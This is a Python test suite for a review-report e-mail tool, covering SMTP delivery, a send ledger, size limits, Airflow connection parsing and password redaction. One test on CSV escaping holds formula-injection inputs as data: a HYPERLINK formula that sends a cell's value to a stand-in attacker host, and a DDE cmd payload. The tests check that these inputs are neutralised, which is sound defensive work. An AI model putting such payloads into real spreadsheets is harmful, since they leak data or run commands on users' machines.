"""Building and delivering report e-mails over real SMTP (aiosmtpd) with a DuckDB send ledger."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import socket
from dataclasses import replace
from datetime import date
from email import message_from_bytes
from email.policy import SMTP as SMTP_POLICY
from email.policy import default as default_policy
from urllib.parse import quote

import duckdb
import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult, LoginPassword

from repwatch.attachments import action_list_csv
from repwatch.charts import sentiment_trend_png
from repwatch.config import (
    AIRFLOW_SMTP_CONNECTION_ENV,
    SMTP_ENV,
    SMTP_PASSWORD_ENV,
    Config,
    ConfigError,
    Paths,
    Recipient,
    SmtpConfig,
    airflow_smtp_connection,
    load_config,
)
from repwatch.mail import (
    MAX_HTML_BYTES,
    MAX_MESSAGE_BYTES,
    DeliveryError,
    MessageTooLarge,
    build_message,
    deliver,
)
from repwatch.report import RenderedReport
from repwatch.smtp_sink import SmtpSink
from tests.conftest import write_config

CONTENT_ID = "trend-1-acme-shop.2026-11-26@repwatch"
RECIPIENTS = [
    {"email": "cs-lead@acme.example", "name": "Customer service", "department": "customer_service"},
    {"email": "ceo@acme.example", "name": "Management"},
]
PASSWORD = "s3cret-never-logged"


@pytest.fixture(scope="module")
def rendered() -> RenderedReport:
    png = sentiment_trend_png(
        [
            {"day": date(2026, 11, day), "positive": day % 4, "neutral": 1, "negative": day % 3}
            for day in range(20, 27)
        ],
        title="Acme Shop",
    )
    html = (
        f'<html><body><p>41 negative</p><img src="cid:{CONTENT_ID}" width="600" height="260" '
        'alt="chart"></body></html>'
    )
    return RenderedReport(
        report="daily",
        period="2026-11-26",
        subject="repwatch daily 2026-11-26 · Acme Shop: 41 negative reviews (63%) ▲",
        html=html,
        text="Acme Shop: 41 negative reviews (63%)\n",
        images={CONTENT_ID: png},
        archive_html=html,
    )


def make_config(tmp_path, smtp: dict) -> Config:
    config = Config.model_validate(
        {
            "brands": [
                {
                    "name": "Acme Shop",
                    "sources": [
                        {"source": "appstore", "targets": [{"app_id": "1", "country": "us"}]}
                    ],
                }
            ],
            "reports": {"daily": {"recipients": RECIPIENTS}},
            "smtp": {"sender": "repwatch@acme.example", "timeout_seconds": 10, **smtp},
        }
    )
    return config.model_copy(update={"paths": Paths(data_dir=tmp_path / "data")})


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture
def ledger_db(tmp_path):
    con = duckdb.connect(str(tmp_path / "warehouse.duckdb"))
    yield con
    con.close()


def ledger_rows(con):
    return con.execute(
        "select report, period, recipient, message_id, transport from send_ledger "
        "order by recipient"
    ).fetchall()


def parse(path):
    return message_from_bytes(path.read_bytes(), policy=default_policy)


def test_build_message_structure(rendered):
    recipient = Recipient(**RECIPIENTS[0])
    message = build_message(rendered, recipient=recipient, sender="repwatch@acme.example")
    assert [part.get_content_type() for part in message.walk()] == [
        "multipart/alternative",
        "text/plain",
        "multipart/related",
        "text/html",
        "image/png",
    ]
    assert message["From"] == "repwatch@acme.example"
    assert message["To"] == "Customer service <cs-lead@acme.example>"
    assert message["Subject"] == rendered.subject
    assert message["Date"].datetime.tzinfo is not None
    assert message["X-Repwatch-Report"] == "daily/2026-11-26"
    assert message["Message-ID"].startswith("<daily.2026-11-26.")
    assert message["Message-ID"].endswith("@repwatch>")
    html = message.get_body(("html",)).get_content()
    image = next(part for part in message.walk() if part.get_content_type() == "image/png")
    assert image["Content-ID"] == f"<{CONTENT_ID}>"
    assert f'src="cid:{image["Content-ID"][1:-1]}"' in html
    assert image.get_content_disposition() == "inline"
    assert image.get_filename() == "trend-1-acme-shop.2026-11-26.png"
    assert image.get_content() == rendered.images[CONTENT_ID]
    # Round trip through bytes keeps the structure (what a mail server stores).
    reparsed = message_from_bytes(message.as_bytes(), policy=default_policy)
    assert reparsed.get_body(("plain",)).get_content() == rendered.text


def test_message_id_is_deterministic_per_report_period_and_recipient(rendered):
    first, second = (Recipient(**item) for item in RECIPIENTS)
    ids = [
        build_message(rendered, recipient=recipient, sender="r@x.example")["Message-ID"]
        for recipient in (first, first, second)
    ]
    assert ids[0] == ids[1] != ids[2]


def test_deliver_over_smtp_once_per_recipient(tmp_path, rendered, ledger_db):
    with SmtpSink(out_dir=tmp_path / "mail") as sink:
        config = make_config(tmp_path, {"host": "127.0.0.1", "port": sink.port})
        result = deliver(config, rendered, con=ledger_db)
        assert result.transport == "smtp"
        assert result.sent == ["cs-lead@acme.example", "ceo@acme.example"]
        assert result.skipped == []
        received = [parse(path) for path in sink.received]
        assert sorted(message["To"].addresses[0].addr_spec for message in received) == [
            "ceo@acme.example",
            "cs-lead@acme.example",
        ]
        assert all(message["Subject"] == rendered.subject for message in received)
        rows = ledger_rows(ledger_db)
        assert [(row[2], row[4]) for row in rows] == [
            ("ceo@acme.example", "smtp"),
            ("cs-lead@acme.example", "smtp"),
        ]
        assert {row[3] for row in rows} == {message["Message-ID"] for message in received}

        again = deliver(config, rendered, con=ledger_db)
        assert again.sent == []
        assert again.skipped == ["cs-lead@acme.example", "ceo@acme.example"]
        assert len(sink.received) == 2

        forced = deliver(config, rendered, con=ledger_db, resend=True)
        assert forced.sent == ["cs-lead@acme.example", "ceo@acme.example"]
        assert len(sink.received) == 4
        assert len(ledger_rows(ledger_db)) == 2


@pytest.mark.reliability(
    row="No SMTP server listening when a report is delivered",
    expected="3 attempts with doubling waits, then a DeliveryError naming host:port, the "
    "attempts and the last error (never the password); the send ledger records nothing",
)
def test_smtp_down_raises_after_retries_and_ledgers_nothing(
    tmp_path, rendered, ledger_db, caplog, monkeypatch
):
    monkeypatch.setenv("REPWATCH_SMTP_PASSWORD", PASSWORD)
    port = free_port()  # nothing listens there
    config = make_config(tmp_path, {"host": "127.0.0.1", "port": port, "username": "repwatch"})
    with caplog.at_level(logging.DEBUG), pytest.raises(DeliveryError) as failure:
        deliver(config, rendered, con=ledger_db, attempts=3, retry_delay_seconds=0.01)
    message = str(failure.value)
    assert f"127.0.0.1:{port}" in message
    assert "after 3 attempts" in message
    assert "ConnectionRefusedError" in message
    retries = [record for record in caplog.records if "retrying" in record.getMessage()]
    assert len(retries) == 2
    assert PASSWORD not in message and PASSWORD not in caplog.text
    assert ledger_rows(ledger_db) == []


class ScriptedServer:
    """Real SMTP server whose RCPT replies can be scripted per address."""

    def __init__(self, replies: dict[str, list[str]]):
        self.replies = replies
        self.rcpt_attempts: list[str] = []
        self.delivered: list[bytes] = []

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
        self.rcpt_attempts.append(address)
        scripted = self.replies.get(address)
        if scripted:
            return scripted.pop(0)
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server, session, envelope):
        self.delivered.append(envelope.content)
        return "250 OK"


@pytest.fixture
def scripted_server():
    handler = ScriptedServer({})
    controller = Controller(handler, hostname="127.0.0.1", port=free_port(), server_hostname="test")
    controller.start()
    yield handler, controller.port
    controller.stop()


@pytest.mark.reliability(
    row="The SMTP server refusing a recipient for now (451)",
    expected="Retried; the message is delivered and ledgered once",
)
def test_transient_refusal_is_retried(tmp_path, rendered, ledger_db, scripted_server):
    handler, port = scripted_server
    handler.replies["ceo@acme.example"] = ["451 4.3.0 Try again later"]
    config = make_config(tmp_path, {"host": "127.0.0.1", "port": port})
    result = deliver(config, rendered, con=ledger_db, retry_delay_seconds=0.01)
    assert result.sent == ["cs-lead@acme.example", "ceo@acme.example"]
    assert handler.rcpt_attempts.count("ceo@acme.example") == 2
    assert len(handler.delivered) == 2
    assert len(ledger_rows(ledger_db)) == 2


@pytest.mark.reliability(
    row="The SMTP server refusing a recipient for good (550)",
    expected="Not retried: a DeliveryError names host:port and the reply; the recipients "
    "served before stay ledgered, and the next delivery sends only to the rest",
)
def test_permanent_refusal_stops_and_keeps_earlier_sends(
    tmp_path, rendered, ledger_db, scripted_server
):
    handler, port = scripted_server
    handler.replies["ceo@acme.example"] = ["550 5.1.1 No such user"]
    config = make_config(tmp_path, {"host": "127.0.0.1", "port": port})
    with pytest.raises(DeliveryError, match=rf"127\.0\.0\.1:{port}.*550 5\.1\.1 No such user"):
        deliver(config, rendered, con=ledger_db, retry_delay_seconds=0.01)
    assert handler.rcpt_attempts.count("ceo@acme.example") == 1
    assert [row[2] for row in ledger_rows(ledger_db)] == ["cs-lead@acme.example"]

    result = deliver(config, rendered, con=ledger_db)
    assert result.sent == ["ceo@acme.example"]
    assert result.skipped == ["cs-lead@acme.example"]
    assert len(handler.delivered) == 2


def test_without_smtp_host_messages_go_to_outbox(tmp_path, rendered, ledger_db):
    config = make_config(tmp_path, {})
    result = deliver(config, rendered, con=ledger_db)
    assert result.transport == "outbox"
    outbox = tmp_path / "data" / "outbox"
    files = sorted(outbox.iterdir())
    assert [path.name for path in files] == [
        "daily-2026-11-26-ceo@acme.example.eml",
        "daily-2026-11-26-cs-lead@acme.example.eml",
    ]
    message = parse(files[0])
    assert message["To"].addresses[0].addr_spec == "ceo@acme.example"
    assert message["Subject"] == rendered.subject
    assert [row[4] for row in ledger_rows(ledger_db)] == ["outbox", "outbox"]
    assert deliver(config, rendered, con=ledger_db).sent == []


# --- attachments and size limits -----------------------------------------------------------


def test_attachments_make_the_message_multipart_mixed_with_a_csv_part(rendered):
    csv_bytes = action_list_csv(
        [{"text": '=HYPERLINK("http://evil.example")', "stars": 1}],
        [("text", "Review"), ("stars", "Stars")],
    )
    with_csv = replace(rendered, attachments={"行动清单-2026-11-26.csv": csv_bytes})
    message = build_message(with_csv, recipient=Recipient(**RECIPIENTS[0]), sender="r@x.example")
    reparsed = message_from_bytes(message.as_bytes(policy=SMTP_POLICY), policy=default_policy)
    assert [part.get_content_type() for part in reparsed.walk()] == [
        "multipart/mixed",
        "multipart/alternative",
        "text/plain",
        "multipart/related",
        "text/html",
        "image/png",
        "text/csv",
    ]
    (attachment,) = reparsed.iter_attachments()
    assert attachment.get_content_type() == "text/csv"
    assert attachment.get_content_disposition() == "attachment"
    assert attachment.get_filename() == "行动清单-2026-11-26.csv"
    # Byte for byte, BOM and CRLF included.
    assert attachment.get_payload(decode=True) == csv_bytes
    # The images stay inline parts of the HTML, not attachments.
    image = next(part for part in reparsed.walk() if part.get_content_type() == "image/png")
    assert image.get_content_disposition() == "inline"
    assert image["Content-ID"] == f"<{CONTENT_ID}>"
    assert image.get_filename() == "trend-1-acme-shop.2026-11-26.png"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        ("差评 = 1", "差评 = 1"),
        (
            'line one\nline two, with a comma; and "quotes"',
            'line one\nline two, with a comma; and "quotes"',
        ),
        (-3, "-3"),
        (4.5, "4.5"),
        (None, ""),
    ],
)
def test_action_list_cells_never_start_a_formula(cell, expected):
    content = action_list_csv(
        [{"cell": cell, "after": "next"}], [("cell", "Cell"), ("after", "After")]
    )
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows == [["Cell", "After"], [expected, "next"]]
    # Every cell quoted, rows end in CRLF; a line break inside a cell stays inside its quotes.
    lines = content.decode("utf-8-sig").split("\r\n")
    assert lines[0] == '"Cell","After"' and lines[-1] == ""
    assert len(lines) == 3


def padded_html(total_bytes: int) -> str:
    """An e-mail HTML of exactly `total_bytes` UTF-8 bytes, mostly Chinese (3 bytes a char)."""
    head = f'<html><body><img src="cid:{CONTENT_ID}" width="600" height="260" alt="chart"><p>'
    tail = "</p></body></html>"
    room = total_bytes - len((head + tail).encode())
    html = head + "差" * (room // 3) + "x" * (room % 3) + tail
    assert len(html.encode("utf-8")) == total_bytes
    return html


def test_html_part_of_100_kb_passes_and_one_byte_more_is_refused(rendered):
    recipient = Recipient(**RECIPIENTS[0])
    at_limit = replace(rendered, html=padded_html(MAX_HTML_BYTES))
    assert MAX_HTML_BYTES == 100 * 1024
    message = build_message(at_limit, recipient=recipient, sender="r@x.example")
    assert message.get_body(("html",)).get_content().rstrip("\n") == at_limit.html
    with pytest.raises(MessageTooLarge) as refused:
        build_message(
            replace(rendered, html=padded_html(MAX_HTML_BYTES + 1)),
            recipient=recipient,
            sender="r@x.example",
        )
    assert isinstance(refused.value, DeliveryError)
    text = str(refused.value)
    assert "daily/2026-11-26" in text
    assert "HTML part" in text and f"{MAX_HTML_BYTES + 1:,} bytes" in text
    assert refused.value.size == MAX_HTML_BYTES + 1


def test_too_large_report_is_refused_before_any_recipient_gets_it(tmp_path, rendered, ledger_db):
    # Random bytes do not compress: the message really grows past 5 MB.
    big = replace(rendered, attachments={"raw.csv": os.urandom(MAX_MESSAGE_BYTES)})
    with SmtpSink(out_dir=tmp_path / "mail") as sink:
        config = make_config(tmp_path, {"host": "127.0.0.1", "port": sink.port})
        with pytest.raises(MessageTooLarge, match=r"report daily/2026-11-26: the whole message"):
            deliver(config, big, con=ledger_db)
        assert sink.received == []
    assert ledger_rows(ledger_db) == []
    assert MAX_MESSAGE_BYTES == 5 * 1024 * 1024


def test_html_showing_an_image_the_report_lacks_is_refused(rendered):
    broken = replace(rendered, html=rendered.html.replace(CONTENT_ID, "trend-9.2026@repwatch"))
    with pytest.raises(DeliveryError, match=r"cid:trend-9\.2026@repwatch"):
        build_message(broken, recipient=Recipient(**RECIPIENTS[0]), sender="r@x.example")


# --- SMTP settings from the environment and Airflow's connection -----------------------------

SMTP_VARIABLES = (*SMTP_ENV, SMTP_PASSWORD_ENV, AIRFLOW_SMTP_CONNECTION_ENV)
AIRFLOW_PASSWORD = "p@ss/w:rd% never-logged"


@pytest.fixture(autouse=True)
def clean_smtp_environment(monkeypatch):
    """A developer's own SMTP settings must not leak into these tests."""
    for name in SMTP_VARIABLES:
        monkeypatch.delenv(name, raising=False)


def test_precedence_is_environment_then_airflow_connection_then_file(tmp_path, monkeypatch):
    path = write_config(
        tmp_path,
        smtp={"host": "file.example", "port": 2500, "sender": "file@acme.example", "ssl": False},
    )
    from_file = load_config(path).smtp
    assert (from_file.host, from_file.port, from_file.sender) == (
        "file.example",
        2500,
        "file@acme.example",
    )

    monkeypatch.setenv(
        AIRFLOW_SMTP_CONNECTION_ENV,
        f"smtp://airflow-user:{quote(AIRFLOW_PASSWORD, safe='')}@airflow.example:587"
        "?from_email=airflow%40acme.example&disable_ssl=true",
    )
    from_airflow = load_config(path).smtp
    assert (from_airflow.host, from_airflow.port, from_airflow.username) == (
        "airflow.example",
        587,
        "airflow-user",
    )
    assert from_airflow.sender == "airflow@acme.example"
    assert (from_airflow.ssl, from_airflow.starttls) == (False, True)
    assert from_airflow.password == AIRFLOW_PASSWORD

    monkeypatch.setenv("REPWATCH_SMTP_HOST", "env.example")
    monkeypatch.setenv("REPWATCH_SMTP_USER", "env-user")
    monkeypatch.setenv("REPWATCH_SMTP_STARTTLS", "false")
    monkeypatch.setenv("REPWATCH_SMTP_SSL", "true")
    monkeypatch.setenv(SMTP_PASSWORD_ENV, "env-password")
    from_env = load_config(path).smtp
    assert (from_env.host, from_env.username, from_env.starttls, from_env.ssl) == (
        "env.example",
        "env-user",
        False,
        True,
    )
    # What the environment does not give still comes from the connection.
    assert (from_env.port, from_env.sender) == (587, "airflow@acme.example")
    assert from_env.password == "env-password"


@pytest.mark.parametrize(
    "uri",
    [
        "smtp://us%40er:p%40ss%2Fw%3Ard@mail.example.com:587"
        "?from_email=reports%40acme.example&disable_ssl=true",
        "smtp://mail.example.com",
        "smtp://u:p%25x@mail.example.com:2525?__extra__="
        + quote(json.dumps({"from_email": "x@acme.example", "disable_ssl": True, "timeout": 9})),
    ],
)
def test_connection_uri_reads_as_airflow_reads_it(uri):
    airflow_sdk = pytest.importorskip("airflow.sdk")
    expected = airflow_sdk.Connection.from_uri(uri, conn_id="smtp_default")
    settings, password = airflow_smtp_connection({AIRFLOW_SMTP_CONNECTION_ENV: uri})
    extra = expected.extra_dejson
    assert settings["host"] == expected.host
    assert settings["username"] == expected.login
    assert password == expected.password
    assert settings.get("sender") == extra.get("from_email")
    # The SMTP provider's hook: SSL unless disable_ssl, smtplib's default port when none given.
    assert settings["ssl"] is not bool(extra.get("disable_ssl"))
    assert settings["port"] == expected.port or (465 if settings["ssl"] else 25)
    assert settings.get("timeout_seconds") == extra.get("timeout")


def test_connection_json_form_with_extra_as_object_or_string():
    extra = {"from_email": "reports@acme.example", "disable_ssl": True, "disable_tls": True}
    for given_extra in (extra, json.dumps(extra)):
        value = json.dumps(
            {
                "conn_type": "smtp",
                "host": "mail.example.com",
                "port": 2525,
                "login": "reports",
                "password": AIRFLOW_PASSWORD,
                "extra": given_extra,
            }
        )
        settings, password = airflow_smtp_connection({AIRFLOW_SMTP_CONNECTION_ENV: value})
        assert settings == {
            "host": "mail.example.com",
            "port": 2525,
            "username": "reports",
            "ssl": False,
            "starttls": False,
            "sender": "reports@acme.example",
        }
        assert password == AIRFLOW_PASSWORD


def test_connection_flags_are_read_by_their_words():
    def tls(query: str) -> tuple[bool, bool, int]:
        settings, _ = airflow_smtp_connection(
            {AIRFLOW_SMTP_CONNECTION_ENV: f"smtp://mail.example.com{query}"}
        )
        return settings["ssl"], settings["starttls"], settings["port"]

    assert tls("") == (True, False, 465)
    assert tls("?disable_ssl=true") == (False, True, 25)
    assert tls("?disable_ssl=true&disable_tls=true") == (False, False, 25)
    # Airflow's hook would take the string "false" as true; here it means false.
    assert tls("?disable_ssl=false&disable_tls=false") == (True, False, 465)
    assert tls("?disable_ssl=1&disable_tls=0") == (False, True, 25)


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        (f"smtps://u:{AIRFLOW_PASSWORD}@mail.example.com", "connection type is 'smtps'"),
        ('{"conn_type": "smtp", "host": "h", "password": "' + AIRFLOW_PASSWORD, "not valid JSON"),
        (f"smtp://u:{quote(AIRFLOW_PASSWORD, safe='')}@:25", "has no host"),
        (f"smtp://u:{quote(AIRFLOW_PASSWORD, safe='')}@h?disable_ssl=maybe", "disable_ssl"),
    ],
)
def test_broken_connection_is_a_config_error_that_hides_the_password(
    tmp_path, monkeypatch, value, problem
):
    monkeypatch.setenv(AIRFLOW_SMTP_CONNECTION_ENV, value)
    with pytest.raises(ConfigError) as refused:
        load_config(write_config(tmp_path))
    message = str(refused.value)
    assert AIRFLOW_SMTP_CONNECTION_ENV in message and problem in message
    assert AIRFLOW_PASSWORD not in message and quote(AIRFLOW_PASSWORD, safe="") not in message


def test_password_is_never_shown(monkeypatch):
    monkeypatch.setenv(
        AIRFLOW_SMTP_CONNECTION_ENV,
        f"smtp://reports:{quote(AIRFLOW_PASSWORD, safe='')}@mail.example.com",
    )
    smtp = SmtpConfig.model_validate({})
    assert smtp.password == AIRFLOW_PASSWORD
    for shown in (repr(smtp), str(smtp), smtp.model_dump_json(), repr(smtp.model_dump())):
        assert AIRFLOW_PASSWORD not in shown
        assert quote(AIRFLOW_PASSWORD, safe="") not in shown


class CheckLogin(ScriptedServer):
    """Real SMTP server that demands AUTH and keeps the envelope sender."""

    def __init__(self, login: str, password: str):
        super().__init__({})
        self.expected = LoginPassword(login.encode(), password.encode())
        self.mail_from: list[str] = []

    def authenticate(self, server, session, envelope, mechanism, auth_data):
        return AuthResult(success=auth_data == self.expected, handled=False)

    async def handle_MAIL(self, server, session, envelope, address, mail_options):
        self.mail_from.append(address)
        envelope.mail_from = address
        return "250 OK"


@pytest.fixture
def login_server():
    handler = CheckLogin("reports@acme.example", AIRFLOW_PASSWORD)
    controller = Controller(
        handler,
        hostname="127.0.0.1",
        port=free_port(),
        server_hostname="test",
        authenticator=handler.authenticate,
        auth_required=True,
        auth_require_tls=False,  # loopback test server without a certificate
    )
    controller.start()
    yield handler, controller.port
    controller.stop()


@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
def test_delivers_with_the_airflow_connection_login(
    tmp_path, rendered, ledger_db, login_server, monkeypatch, caplog
):
    handler, port = login_server
    monkeypatch.setenv(
        AIRFLOW_SMTP_CONNECTION_ENV,
        f"smtp://reports%40acme.example:{quote(AIRFLOW_PASSWORD, safe='')}@127.0.0.1:{port}"
        "?from_email=alerts%40acme.example&disable_ssl=true&disable_tls=true",
    )
    config = make_config(tmp_path, {})  # the file names no server; the connection does
    with caplog.at_level(logging.DEBUG):
        result = deliver(config, rendered, con=ledger_db)
    assert result.transport == "smtp"
    assert result.sent == ["cs-lead@acme.example", "ceo@acme.example"]
    assert handler.mail_from == ["alerts@acme.example", "alerts@acme.example"]
    delivered = message_from_bytes(handler.delivered[0], policy=default_policy)
    assert delivered["From"] == "alerts@acme.example"
    assert AIRFLOW_PASSWORD not in caplog.text

    # A wrong password in the environment wins over the connection's and is refused for good.
    monkeypatch.setenv(SMTP_PASSWORD_ENV, "wrong-password")
    with pytest.raises(DeliveryError, match=r"535") as refused:
        deliver(config, rendered, con=ledger_db, resend=True, retry_delay_seconds=0.01)
    assert "wrong-password" not in str(refused.value)
